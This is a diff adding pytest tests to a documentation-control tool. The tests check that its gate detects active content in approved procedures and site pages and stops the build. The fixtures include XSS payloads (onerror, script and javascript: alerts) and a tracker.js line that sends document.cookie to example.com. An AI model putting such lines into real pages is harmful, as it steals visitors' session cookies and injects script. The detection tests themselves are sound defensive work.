@@ -108,7 +108,9 @@ def test_citations_in_site_pages_are_checked_and_escaped(site_repo: ManualRepo) 
     site_repo.commit("Cite", date="2024-03-01")
     gate = site_repo.gate()
     found = sorted((f.line, f.rule) for f in gate.findings if f.path == "docs/index.md")
-    assert found == [(5, "reference.unknown-document"), (7, "clause.unknown"),
+    # The <img onerror> reads as HTML and as an attribute list: both say so.
+    assert found == [(5, "content.event-handler"), (5, "content.event-handler"),
+                     (5, "reference.unknown-document"), (7, "clause.unknown"),
                      (7, "reference.unknown-document")]
     assert all(f.is_error for f in gate.findings if f.path == "docs/index.md")
     html = SitePlan(gate, "docs").expand_macros(site_repo.read("docs/index.md"), "index.md")
@@ -162,3 +164,28 @@ def test_hooks_must_live_in_the_governed_folder(site_repo: ManualRepo) -> None:
     site_repo.edit("mkdocs.yml", "  - hooks/qmsdoc_mkdocs.py", "  - hooks/qmsdoc_mkdocs.py\n  - x.py")
     found = [f for f in site_repo.gate().findings if f.rule == "governance.hook-outside"]
     assert len(found) == 1 and found[0].is_error and "x.py" in found[0].message
+
+
+def test_active_content_in_approved_text_and_pages_stops_the_build(site_repo: ManualRepo) -> None:
+    site_repo.write("docs/index.md", HOME + '\n<img src=x onerror="alert(1)">\n')
+    site_repo.write("docs/tracker.js", "fetch('https://example.com/?' + document.cookie)\n")
+    qp01 = "procedures/qp-01.md"
+    site_repo.edit(qp01, "title: 文件控制程序", "title: 文件控制程序<script>alert(2)</script>")
+    site_repo.edit(qp01, "文件管理员维护受控文件。", "文件管理员维护受控文件。[详见](javascript:alert(3))")
+    site_repo.edit(qp01, "version: A/0", "version: A/1")
+    site_repo.edit(qp01, "effective_date: '2024-03-01'", "effective_date: '2024-03-10'")
+    site_repo.edit(qp01, "state: effective", "state: in_review")
+    site_repo.commit("Revise", date="2024-03-01")
+    # qmsdoc approve refuses; approvals by hand (in merge requests, say) count all the same.
+    assert site_repo.approve("QP-01", person="陈代表", date="2024-03-05", review=True).exit_code == 1
+    site_repo.trailer_commit("Reviewed-by: 陈代表 <chen@example.gov.cn>", person="陈代表",
+                             date="2024-03-05", path=qp01)
+    site_repo.trailer_commit("Approved-by: 王局长 <wang@example.gov.cn>", person="王局长",
+                             date="2024-03-06", path=qp01)
+    assert site_repo.gate().statuses["QP-01"].published.snapshot.version.amendment == 1
+    found = {(f.path, f.line, f.rule) for f in site_repo.gate().findings if f.is_error}
+    assert found == {("docs/index.md", 5, "content.event-handler"),
+                     ("docs/tracker.js", None, "content.script"),
+                     (qp01, 4, "content.script"), (qp01, 33, "content.unsafe-url")}
+    result = build(site_repo)
+    assert result.returncode != 0 and not (site_repo.root / "site").exists()
